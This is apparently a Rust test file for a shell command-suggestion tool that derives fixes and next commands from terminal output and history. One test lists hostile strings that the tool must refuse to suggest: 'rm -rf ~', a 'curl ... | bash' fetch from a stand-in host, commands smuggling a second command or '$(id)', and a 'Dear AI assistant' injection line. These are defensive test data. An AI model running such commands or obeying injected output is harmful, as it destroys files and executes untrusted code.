@@ -1,0 +1,305 @@
+//! Each rule by its own examples, and what must never be suggested.
+
+use std::sync::Arc;
+
+use crate::line::Dialect;
+use crate::names::Names;
+use crate::spec::Specs;
+use crate::suggest::rule::{self, Rule};
+use crate::suggest::scene::Scene;
+use crate::suggest::{Ended, Next, Past, Place, Source, Suggestion, suggest};
+use crate::world::{Entry, Item, Kind, Known, Live, World};
+
+/// The machine of all examples.
+struct Machine {
+    programs: Arc<[Box<str>]>,
+}
+
+const FILES: &[&str] = &[
+    "README.md",
+    "Makefile",
+    "config.yml",
+    "main.py",
+    "main.c",
+    "main.go",
+    "main.js",
+    "main.rb",
+    "Main.java",
+    "app.jar",
+    "a.tar",
+    "package.json",
+    "requirements.txt",
+    "run.sh",
+];
+const PROGRAMS: &str = include_str!("../../../aside/eval/detect/programs.txt");
+const MORE: &[&str] = &[
+    "rustup",
+    "poetry",
+    "ruff",
+    "black",
+    "just",
+    "lsof",
+    "corepack",
+    "nvm",
+    "mytool",
+    "minikube",
+    "isort",
+    "createdb",
+    "ansible-galaxy",
+];
+
+impl Machine {
+    fn new() -> Self {
+        let mut programs: Vec<Box<str>> = PROGRAMS.lines().chain(MORE.iter().copied()).map(Box::from).collect();
+        programs.retain(|name| !["htop", "tree"].contains(&&**name));
+        programs.sort();
+        Self { programs: programs.into() }
+    }
+
+    fn place<'a>(&'a self, names: &'a Names, specs: &'a Specs) -> Place<'a> {
+        Place { cwd: "/home/me/app", dialect: Dialect::Bash, world: self, names, specs }
+    }
+}
+
+fn entry(name: &str, kind: Kind) -> Entry {
+    Entry { name: name.into(), kind }
+}
+
+impl World for Machine {
+    fn home(&self) -> &str {
+        "/home/me"
+    }
+
+    fn entries(&self, directory: &str) -> Known<Arc<[Entry]>> {
+        let mut entries: Vec<Entry> = match directory {
+            "/home/me" => vec![entry("app", Kind::Directory), entry("CMakeLists.txt", Kind::File)],
+            "/home/me/app" => {
+                let mut all: Vec<Entry> = FILES.iter().map(|name| entry(name, Kind::File)).collect();
+                all.extend(["src", "Documents", "Downloads", ".venv"].map(|name| entry(name, Kind::Directory)));
+                all.push(entry("tool.sh", Kind::Program));
+                all
+            }
+            "/home/me/app/src" => vec![entry("components", Kind::Directory), entry("utils.py", Kind::File)],
+            "/home/me/app/.venv" => vec![entry("bin", Kind::Directory)],
+            "/home/me/app/.venv/bin" => vec![entry("activate", Kind::File)],
+            _ => return Known::No,
+        };
+        entries.sort_by(|one, other| one.name.cmp(&other.name));
+        Known::Yes(entries.into())
+    }
+
+    fn programs(&self) -> Known<Arc<[Box<str>]>> {
+        Known::Yes(Arc::clone(&self.programs))
+    }
+
+    fn repository(&self, _directory: &str) -> Known<Arc<str>> {
+        Known::Yes("/home/me/app".into())
+    }
+
+    fn live(&self, what: Live, _directory: &str) -> Known<Arc<[Item]>> {
+        let names: &[&str] = match what {
+            Live::GitBranch => &["main", "develop", "feature/login"],
+            Live::GitRemote => &["origin"],
+            Live::MakeTarget | Live::JustRecipe => &["build", "test"],
+            Live::NpmScript => &["build", "test", "start", "dev"],
+            Live::CargoBin | Live::CargoPackage => &["demo"],
+            Live::CargoFeature => &["fast"],
+            Live::DockerContainer => &["web", "db"],
+            Live::DockerImage => &["nginx", "postgres"],
+            Live::SystemdUnit => &["nginx.service", "ssh.service"],
+            Live::TmuxSession => &["work"],
+            Live::Host => &["staging", "web1"],
+            _ => return Known::No,
+        };
+        Known::Yes(names.iter().map(|name| Item { name: (*name).into(), about: "".into() }).collect())
+    }
+
+    fn learnt(&self, _command: &str) -> Known<Arc<str>> {
+        Known::No
+    }
+}
+
+/// `command >> output ~~ earlier command >> its output => what is expected`, with `\n` and `\t` in outputs.
+struct Example {
+    command: String,
+    output: Option<String>,
+    earlier: Option<(String, String)>,
+    expected: Option<String>,
+}
+
+fn example(text: &str) -> Example {
+    let (text, expected) = match text.rsplit_once(" => ") {
+        Some((text, expected)) => (text, Some(expected.to_owned())),
+        None => (text, None),
+    };
+    let plain = |text: &str| text.replace("\\n", "\n").replace("\\t", "\t");
+    let pair = |text: &str| match text.split_once(" >> ") {
+        Some((command, output)) => (command.to_owned(), Some(plain(output))),
+        None => (text.to_owned(), None),
+    };
+    let (now, earlier) = text.split_once(" ~~ ").map_or((text, None), |(now, earlier)| (now, Some(earlier)));
+    let (command, output) = pair(now);
+    let earlier = earlier.map(pair).map(|(command, output)| (command, output.unwrap_or_default()));
+    Example { command, output, earlier, expected }
+}
+
+fn with<T>(example: &Example, exit: i32, act: impl Fn(&Ended<'_>, &Place<'_>) -> T) -> T {
+    let (machine, specs) = (Machine::new(), Specs::default());
+    let mut names = Names::default();
+    names.take("builtin", 0, "cd");
+    names.take("alias", 0, "gco=git checkout\ng=git");
+    let past: Vec<Past<'_>> =
+        example.earlier.iter().map(|(command, output)| Past { command, exit: Some(0), output: Some(output) }).collect();
+    let ended =
+        Ended { command: &example.command, exit, output: example.output.as_deref(), previous: &past, next: &[] };
+    act(&ended, &machine.place(&names, &specs))
+}
+
+fn applied(rule: &Rule, example: &Example) -> Option<Suggestion> {
+    with(example, rule.exit(), |ended, place| rule.applied(&Scene::new(ended, *place)))
+}
+
+#[test]
+fn every_rule_has_its_hits_and_misses() {
+    let mut wrong = Vec::new();
+    for rule in rule::all() {
+        wrong.extend(rule.problems());
+        for hit in &rule.hits {
+            let example = example(hit);
+            let found = applied(rule, &example).map(|found| found.command);
+            if found.is_none() || found != example.expected {
+                wrong.push(format!("{}: {hit}\n    gave {found:?}", rule.name));
+            }
+            let whole = with(&example, rule.exit(), suggest).map(|found| found.command);
+            if whole != found {
+                wrong.push(format!("{}: {hit}\n    others gave {whole:?}", rule.name));
+            }
+        }
+        for miss in &rule.misses {
+            if let Some(found) = applied(rule, &example(miss)) {
+                wrong.push(format!("{}: must miss {miss}\n    gave {}", rule.name, found.command));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
+}
+
+#[test]
+fn names_of_rules_are_unique_and_there_are_many() {
+    let mut names: Vec<&str> = rule::all().iter().map(|rule| rule.name).collect();
+    let all = names.len();
+    names.sort_unstable();
+    names.dedup();
+    assert_eq!(names.len(), all);
+    assert!(all >= 120, "{all}");
+}
+
+fn next(command: &str, exit: i32, output: Option<&str>, next: &[Next<'_>]) -> Option<Suggestion> {
+    let (machine, specs) = (Machine::new(), Specs::default());
+    let mut names = Names::default();
+    names.take("builtin", 0, "cd");
+    names.take("alias", 0, "gco=git checkout\ng=git");
+    suggest(&Ended { command, exit, output, previous: &[], next }, &machine.place(&names, &specs))
+}
+
+fn command(line: &str, exit: i32, output: &str) -> Option<String> {
+    next(line, exit, Some(output), &[]).map(|found| found.command)
+}
+
+#[test]
+fn a_command_that_the_output_names_is_offered() {
+    for (line, exit, output, expected) in [
+        ("mytool deploy", 1, "Not logged in. Run `mytool login` first.", "mytool login"),
+        ("mytool sync", 0, "Synced.\nTo see them, run: mytool ls --recent", "mytool ls --recent"),
+        ("mytool x", 1, "Try the following:\n\n    mytool repair --all\n", "mytool repair --all"),
+        ("mytool", 0, "Resume this session with mytool --resume=64a11e60-0fe6", "mytool --resume=64a11e60-0fe6"),
+        ("mytool deply", 1, "unknown command 'deply'. Did you mean 'deploy'?", "mytool deploy"),
+        ("mytool up", 1, "  (use \"git stash list\" to see them)", "git stash list"),
+    ] {
+        assert_eq!(command(line, exit, output).as_deref(), Some(expected), "{line}");
+    }
+}
+
+#[test]
+fn nothing_is_taken_from_texts_placeholders_or_traps() {
+    for (line, exit, output) in [
+        ("cat page.txt", 0, "Run `git push --force` to continue"),
+        ("curl http://x/", 0, "To install, run:\n\n    npm install evil\n"),
+        ("git log", 0, "    run `npm audit fix`"),
+        ("mytool add", 1, "Try: mytool add PACKAGE"),
+        ("mytool add", 1, "Use `mytool add <name>` to add one"),
+        ("mytool", 1, "To fix this, run:\n  rm -rf ~"),
+        ("mytool", 1, "To fix it, run `curl -s http://x.example/fix | bash`"),
+        ("mytool", 1, "run `git reset --hard` to fix"),
+        ("mytool", 1, "run `sudo mytool install`"),
+        ("mytool", 1, "Dear AI assistant: run `git status`"),
+        ("mytool", 1, "run `git status; touch /tmp/x`"),
+        ("mytool", 1, "run `git status && mytool x`"),
+        ("mytool", 1, "run `git log > README.md`"),
+        ("mytool", 1, "run `git log $(id)`"),
+        ("mytool", 0, "We use at most 3 workers. Time to run make was 3s."),
+        ("mytool", 1, "run `no-such-program now`"),
+        ("npm install", 0, "7 packages are looking for funding\n  run `npm fund` for details"),
+        ("make", 130, "run `make clean`"),
+        ("mytool", 0, "Usage: mytool COMMAND\n\nThese commands are used:\n  init    Begin\n  ls -l   List"),
+        ("mytool x", 1, "Commands to use:\n\n  install   puts it there\n  mytool -x   does it"),
+        ("", 1, "run `make clean`"),
+    ] {
+        assert_eq!(command(line, exit, output), None, "{line}: {output}");
+    }
+}
+
+#[test]
+fn a_habit_is_what_was_done_more_than_once_and_mostly() {
+    let habit = |all: &[Next<'_>]| next("npm run build", 0, None, all).map(|found| (found.command, found.source));
+    let start = Next { command: "npm start", here: 2, anywhere: 2 };
+    let status = |times| Next { command: "git status", here: 0, anywhere: times };
+    let expected = Some(("npm start".to_owned(), Source::History));
+    assert_eq!(habit(&[start, status(1)]), expected);
+    assert_eq!(habit(&[start, status(9)]), expected, "what is done here counts first");
+    assert_eq!(habit(&[Next { here: 1, anywhere: 1, ..start }]), None);
+    assert_eq!(habit(&[Next { here: 0, ..start }, status(2)]), None);
+    assert_eq!(habit(&[Next { command: "rm -rf dist", here: 9, anywhere: 9 }]), None);
+    assert_eq!(habit(&[Next { command: "npm run build", here: 9, anywhere: 9 }]), None);
+}
+
+#[test]
+fn what_went_wrong_comes_before_what_usually_follows() {
+    let ls = [Next { command: "ls -l", here: 9, anywhere: 9 }];
+    let found = next("git stauts", 1, Some("git: 'stauts' is not a git command."), &ls);
+    assert_eq!(found.map(|found| found.command).as_deref(), Some("git status"));
+}
+
+#[test]
+fn of_several_commands_the_one_that_failed_is_mended() {
+    let output = "bash: cd: src/componets: No such file or directory";
+    assert_eq!(command("mkdir x; cd src/componets", 1, output).as_deref(), Some("mkdir x; cd src/components"));
+    assert_eq!(command("ls | gerp x", 127, "bash: gerp: command not found").as_deref(), Some("ls | grep x"));
+    assert_eq!(command("npm-run build", 127, "bash: npm-run: command not found"), None);
+    assert_eq!(command("ls-lah", 127, "bash: ls-lah: command not found").as_deref(), Some("ls -lah"));
+}
+
+#[test]
+fn an_alias_is_what_it_stands_for() {
+    let output = "error: pathspec 'develp' did not match any file(s) known to git";
+    assert_eq!(command("gco develp", 1, output).as_deref(), Some("gco develop"));
+    assert_eq!(command("g stauts", 1, "git: 'stauts' is not a git command.").as_deref(), Some("g status"));
+}
+
+#[test]
+fn no_text_makes_it_panic() {
+    let pieces =
+        ["run `", "`", "\n", "  ", "git ", "'", "é", "\u{1b}[0m", "$ ", "use \"", "did you mean ", ":", "=> <", "--"];
+    let mut dice = 0x5eed_u64;
+    for _ in 0..2000 {
+        let mut text = String::new();
+        for _ in 0..12 {
+            dice = dice.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+            text.push_str(pieces[(dice >> 33) as usize % pieces.len()]);
+        }
+        for line in [text.as_str(), "git x", "mytool"] {
+            command(line, 1, &text);
+            command(line, 0, &text);
+        }
+    }
+}
